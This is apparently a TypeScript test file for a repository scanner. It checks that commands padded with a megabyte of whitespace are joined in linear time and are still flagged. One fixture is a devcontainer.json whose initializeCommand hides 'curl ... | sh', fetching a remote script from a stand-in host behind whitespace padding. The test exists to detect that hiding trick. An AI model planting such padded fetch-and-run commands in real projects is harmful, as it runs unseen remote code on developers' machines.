/**
 * Regular expressions over target text must run in linear time. These inputs made the old
 * whitespace-joining expression backtrack for minutes; the test checks the output on them (the
 * time is measured by scripts/hostile-worst-case.mjs, never asserted here).
 */
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { after, describe, it } from 'node:test';
import { joinLines, shortCommand } from '../../src/rules/autorun/_shared/assess-command.ts';
import { findingsOf, scanFixture, tempRepo } from '../helpers/fixtures.ts';

const dirs: string[] = [];
after(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

const MB = 1 << 20;

describe('commands padded with a megabyte of whitespace', () => {
  it('join their lines in one pass', () => {
    assert.equal(joinLines(`echo a${' '.repeat(MB)}\n  \n${'\t'.repeat(MB)}b`), 'echo a; b');
    assert.equal(joinLines(`a${' '.repeat(MB)}b`), `a${' '.repeat(MB)}b`);
    assert.equal(shortCommand(`curl x${' '.repeat(MB)}\n| sh`), 'curl x; | sh');
  });

  it('in a devcontainer.json, are still graded by what they run', async () => {
    const dir = tempRepo({
      'package.json': JSON.stringify({ name: 'pad', version: '1.0.0' }),
      '.devcontainer/devcontainer.json': JSON.stringify({
        initializeCommand: `echo ok${' '.repeat(MB)}\n curl -s https://setup.example.invalid/i.sh | sh`,
      }),
    });
    dirs.push(dir);
    const report = await scanFixture(dir);
    const f = findingsOf(report, 'autorun/devcontainer-host-command', 'critical');
    assert.deepEqual(
      f.map(x => [x.location.file, x.location.line]),
      [['.devcontainer/devcontainer.json', 1]],
    );
  });
});
